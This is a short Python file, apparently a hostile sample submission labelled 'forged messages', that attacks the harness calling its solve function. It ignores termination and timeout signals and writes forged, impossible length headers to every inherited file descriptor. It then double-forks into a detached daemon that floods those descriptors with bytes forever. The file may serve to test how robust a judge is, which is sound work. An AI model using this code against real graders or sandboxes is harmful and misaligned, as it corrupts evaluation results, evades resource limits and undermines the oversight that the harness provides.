# mechanism: forged messages
"""Announces an answer of many bytes and sends them one by one, or announces more than there can be."""
import os
import signal
import time

for number in (signal.SIGTERM, signal.SIGINT, signal.SIGXCPU, signal.SIGHUP, signal.SIGPIPE, signal.SIGALRM):
    signal.signal(number, signal.SIG_IGN)


def solve(xs):
    for fd in range(3, 40):
        try:
            os.write(fd, (b"\xff" * 8, b"\x00\x00\x00\x00\x03\xff\xff\xff", b"\x03\xff\xff\xff")[len(xs) % 3])
        except OSError:
            pass
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
    while True:
        for fd in range(4, 40):
            try:
                os.write(fd, b"[")
            except OSError:
                pass
        time.sleep(0.05)
